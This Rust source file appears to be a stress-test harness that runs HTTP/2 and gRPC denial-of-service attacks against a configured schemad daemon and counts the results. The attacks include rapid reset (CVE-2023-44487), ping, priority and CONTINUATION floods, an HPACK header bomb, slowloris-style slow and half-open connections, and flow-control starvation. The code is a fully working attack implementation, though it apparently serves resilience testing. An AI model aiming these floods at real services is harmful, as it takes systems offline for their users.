//! What is done to the daemon. Every attack goes on until its time is over, with new connections
//! where the daemon closes old ones.

use std::{
    pin::Pin,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use futures_util::future::join_all;
use tokio::{
    io::AsyncWriteExt as _, net::TcpStream, runtime::Builder, sync::oneshot, time::timeout,
};

use super::frames::{
    Attacker, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LIST, PING, PREFACE, PRIORITY,
    REFLECT, RST_STREAM, WINDOW_UPDATE, call, connect, frame, header, message, settings,
};

const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
const APPLY: &str = "/schemad.v1.MigrationService/Apply";
const MAX_FRAME: usize = 16 * 1024;

/// Connections that do what one does, where many would only share the machine's time.
const FEW: usize = 8;
/// Connections that hold something each.
const SOME: usize = 200;

type Run = fn(Field) -> Pin<Box<dyn Future<Output = ()>>>;

/// What is done, under a name for the table.
pub struct Attack {
    pub name: &'static str,
    run: Run,
}

/// Connections that were tried, and frames, streams or connections that the daemon took.
#[derive(Clone, Copy, Debug)]
pub struct Done {
    pub tried: usize,
    pub done: usize,
}

/// What an attack has: whom, until when, and two counts.
#[derive(Clone)]
pub struct Field {
    address: String,
    until: Instant,
    connections: usize,
    tried: Arc<AtomicUsize>,
    done: Arc<AtomicUsize>,
}

macro_rules! attacks {
    ($($name:ident)+) => { &[$(Attack { name: stringify!($name), run: |field| Box::pin($name(field)) }),+] };
}

/// Every attack; the first is the machine without one.
pub const ATTACKS: &[Attack] = attacks! {
    nothing rapid_reset continuation_flood settings_flood ping_flood priority_flood empty_data_flood slow_preface half_open
    giant_headers header_bomb many_streams never_reads tiny_windows endless_message garbage idle_connections
};

impl Attack {
    /// Does it on one thread, so that a core is left for the daemon.
    pub async fn run(&self, address: &str, length: Duration, connections: usize) -> Done {
        let (run, address) = (self.run, address.to_owned());
        let (sender, done) = oneshot::channel();
        std::thread::spawn(move || {
            let until = Instant::now() + length;
            let field = Field {
                address,
                until,
                connections,
                tried: Arc::default(),
                done: Arc::default(),
            };
            Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap()
                .block_on(run(field.clone()));
            let count = |count: &AtomicUsize| count.load(Ordering::Relaxed);
            let _ = sender.send(Done {
                tried: count(&field.tried),
                done: count(&field.done),
            });
        });
        done.await.expect("the attack's thread")
    }
}

impl Field {
    fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }

    async fn connect(&self, hello: &[(u16, u32)], reads: bool) -> Option<Attacker> {
        self.tried.fetch_add(1, Ordering::Relaxed);
        let attacker = connect(&self.address, hello, reads).await;
        if attacker.is_none() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        attacker
    }

    fn count(&self, n: usize) {
        self.done.fetch_add(n, Ordering::Relaxed);
    }

    async fn hold(&self) {
        tokio::time::sleep_until(self.until.into()).await;
    }

    /// Sends what `next` makes, a batch at a time, over `connections`, and connects anew where the
    /// daemon has closed.
    async fn flood(
        &self,
        connections: usize,
        first: &[u8],
        next: impl Fn(u32) -> Vec<u8>,
        batch: u32,
    ) {
        let one = async || {
            while self.goes_on() {
                let Some(mut attacker) = self.connect(&[], true).await else {
                    continue;
                };
                let mut n = 0;
                let mut open = attacker.send(first).await;
                while open && self.goes_on() && n < 1 << 29 {
                    let bytes: Vec<u8> = (n..n + batch).flat_map(&next).collect();
                    open = attacker.send(&bytes).await;
                    self.count(if open { batch as usize } else { 0 });
                    n += batch;
                    tokio::task::yield_now().await;
                }
            }
        };
        join_all((0..connections).map(|_| one())).await;
    }
}

/// The nth stream that a client opens.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

async fn nothing(field: Field) {
    field.hold().await;
}

/// CVE-2023-44487: calls that are given up at once.
async fn rapid_reset(field: Field) {
    let block = call(LIST);
    let next = |n| {
        let open = frame(HEADERS, END_HEADERS, stream(n), &block);
        [
            open,
            frame(DATA, END_STREAM, stream(n), &message(&[])),
            frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8]),
        ]
        .concat()
    };
    field.flood(FEW, &[], next, 50).await;
}

/// Headers that never end.
async fn continuation_flood(field: Field) {
    let first = frame(HEADERS, 0, 1, &call(LIST));
    let more = frame(CONTINUATION, 0, 1, &header("x-more", &"m".repeat(4000)));
    field.flood(FEW, &first, |_| more.clone(), 10).await;
}

/// Each has to be acknowledged.
async fn settings_flood(field: Field) {
    field
        .flood(
            FEW,
            &[],
            |n| settings(&[(4, 65_535 + n % 2), (1, 4096 * (n % 2))]),
            100,
        )
        .await;
}

/// CVE-2019-9512: each has to be answered.
async fn ping_flood(field: Field) {
    let ping = frame(PING, 0, 0, b"abcdefgh");
    field.flood(FEW, &[], |_| ping.clone(), 200).await;
}

/// CVE-2019-9513: streams that are sorted again and again.
async fn priority_flood(field: Field) {
    field
        .flood(
            FEW,
            &[],
            |n| frame(PRIORITY, 0, stream(n % 1000), &[0, 0, 0, 0, 16]),
            200,
        )
        .await;
}

/// CVE-2019-9518: frames with nothing in them.
async fn empty_data_flood(field: Field) {
    let first = frame(HEADERS, END_HEADERS, 1, &call(APPLY));
    let empty = frame(DATA, 0, 1, &[]);
    field.flood(FEW, &first, |_| empty.clone(), 200).await;
}

/// A byte of the preface now and then.
async fn slow_preface(field: Field) {
    let one = async || {
        while field.goes_on() {
            field.tried.fetch_add(1, Ordering::Relaxed);
            let Ok(Ok(mut socket)) =
                timeout(Duration::from_secs(5), TcpStream::connect(&field.address)).await
            else {
                continue;
            };
            field.count(1);
            for byte in PREFACE {
                if !field.goes_on() || socket.write_all(&[*byte]).await.is_err() {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(250)).await;
            }
        }
    };
    join_all((0..SOME).map(|_| one())).await;
}

/// Applies whose request never comes.
async fn half_open(field: Field) {
    let block = call(APPLY);
    let one = async || {
        while field.goes_on() {
            let Some(mut attacker) = field.connect(&[], true).await else {
                continue;
            };
            for n in 0..100 {
                let partial = [
                    frame(HEADERS, END_HEADERS, stream(n), &block),
                    frame(DATA, 0, stream(n), &[0, 0, 0]),
                ]
                .concat();
                if !attacker.send(&partial).await {
                    break;
                }
                field.count(1);
            }
            while field.goes_on() && attacker.send(&[]).await {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    };
    join_all((0..SOME).map(|_| one())).await;
}

/// A megabyte of headers on every stream.
async fn giant_headers(field: Field) {
    let next = |n| {
        let mut frames = frame(HEADERS, 0, stream(n), &call(LIST));
        for i in 0..64 {
            let last = if i == 63 { END_HEADERS } else { 0 };
            let block = header(&format!("x-giant-{i}"), &"g".repeat(MAX_FRAME - 100));
            frames.extend(frame(CONTINUATION, last, stream(n), &block));
        }
        frames
    };
    field.flood(FEW, &[], next, 1).await;
}

/// CVE-2016-1544 and its kin: a header is put into the table once and named thousands of times, a
/// byte each.
async fn header_bomb(field: Field) {
    let mut block = call(LIST);
    let large = header("x-bomb", &"b".repeat(3900));
    block.push(0x40); // with incremental indexing: what follows is the first of the dynamic table
    block.extend(&large[1..]);
    block.extend(vec![0x80 | 62; MAX_FRAME - block.len() - 100]);
    field
        .flood(
            FEW,
            &[],
            |n| frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &block),
            4,
        )
        .await;
}

/// Streams that the daemon has to keep open, as many as it allows and more.
async fn many_streams(field: Field) {
    let block = call(HEALTH_WATCH);
    let one = async || {
        while field.goes_on() {
            let Some(mut attacker) = field.connect(&[], true).await else {
                continue;
            };
            for n in 0..2000 {
                let call = [
                    frame(HEADERS, END_HEADERS, stream(n), &block),
                    frame(DATA, END_STREAM, stream(n), &message(&[])),
                ];
                if !field.goes_on() || !attacker.send(&call.concat()).await {
                    break;
                }
                field.count(1);
            }
            while field.goes_on() && attacker.send(&[]).await {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    };
    join_all((0..50).map(|_| one())).await;
}

/// Asks for whole descriptors and takes nothing of the answers.
async fn never_reads(field: Field) {
    reflect(&field, &[(4, 0)], false, &[]).await;
}

/// Takes the answers a byte at a time.
async fn tiny_windows(field: Field) {
    let more = [
        frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
    ]
    .concat();
    reflect(&field, &[(4, 1)], true, &more).await;
}

async fn reflect(field: &Field, hello: &[(u16, u32)], reads: bool, more: &[u8]) {
    // ServerReflectionRequest.file_by_filename
    let name = b"schemad/v1/migration.proto";
    let ask = message(&[&[0x1a, u8::try_from(name.len()).unwrap()][..], name].concat());
    let one = async || {
        while field.goes_on() {
            let Some(mut attacker) = field.connect(hello, reads).await else {
                continue;
            };
            let mut open = true;
            for n in 0..100 {
                open &= attacker
                    .send(&frame(HEADERS, END_HEADERS, stream(n), &call(REFLECT)))
                    .await;
            }
            // As many questions as the windows let through: 64 KiB for the connection.
            for n in (0..100).cycle().take(1000) {
                open = open && attacker.send(&frame(DATA, 0, stream(n), &ask)).await;
                field.count(usize::from(open));
            }
            while field.goes_on() && open {
                open = attacker.send(&more.repeat(20)).await;
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
    };
    join_all((0..50).map(|_| one())).await;
}

/// A message that says it is four gigabytes long, and comes slowly.
async fn endless_message(field: Field) {
    let one = async || {
        while field.goes_on() {
            let Some(mut attacker) = field.connect(&[], true).await else {
                continue;
            };
            let mut open = attacker
                .send(&frame(HEADERS, END_HEADERS, 1, &call(APPLY)))
                .await;
            open = open
                && attacker
                    .send(&frame(DATA, 0, 1, &[0, 255, 255, 255, 255]))
                    .await;
            while field.goes_on() && open {
                open = attacker.send(&frame(DATA, 0, 1, &[b'x'; 100])).await;
                field.count(usize::from(open));
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    };
    join_all((0..SOME).map(|_| one())).await;
}

/// Whatever is no HTTP/2.
async fn garbage(field: Field) {
    let texts: [&[u8]; 5] = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"\x00\x00\x00\x08\x04\xd2\x16\x2f", // a PostgreSQL client that asks for TLS
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\xff\xff\xff\xff\xff\xff\xff\xff\xff",
        &[0xff; 9000],
    ];
    let one = async |text: &[u8]| {
        while field.goes_on() {
            field.tried.fetch_add(1, Ordering::Relaxed);
            let Ok(mut socket) = TcpStream::connect(&field.address).await else {
                continue;
            };
            field.count(usize::from(socket.write_all(text).await.is_ok()));
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    };
    join_all(texts.iter().map(|text| one(text))).await;
}

/// Half of them have said hello, half say nothing.
async fn idle_connections(field: Field) {
    let (mut quiet, mut polite) = (Vec::new(), Vec::new());
    for n in 0..field.connections {
        if n % 2 == 0 {
            field.tried.fetch_add(1, Ordering::Relaxed);
            let socket = timeout(Duration::from_secs(5), TcpStream::connect(&field.address)).await;
            quiet.extend(socket.ok().and_then(Result::ok));
        } else {
            polite.extend(field.connect(&[], false).await);
        }
        tokio::task::yield_now().await;
    }
    field.count(quiet.len() + polite.len());
    tokio::time::sleep(
        Duration::from_secs(1).max(field.until.saturating_duration_since(Instant::now())),
    )
    .await;
}
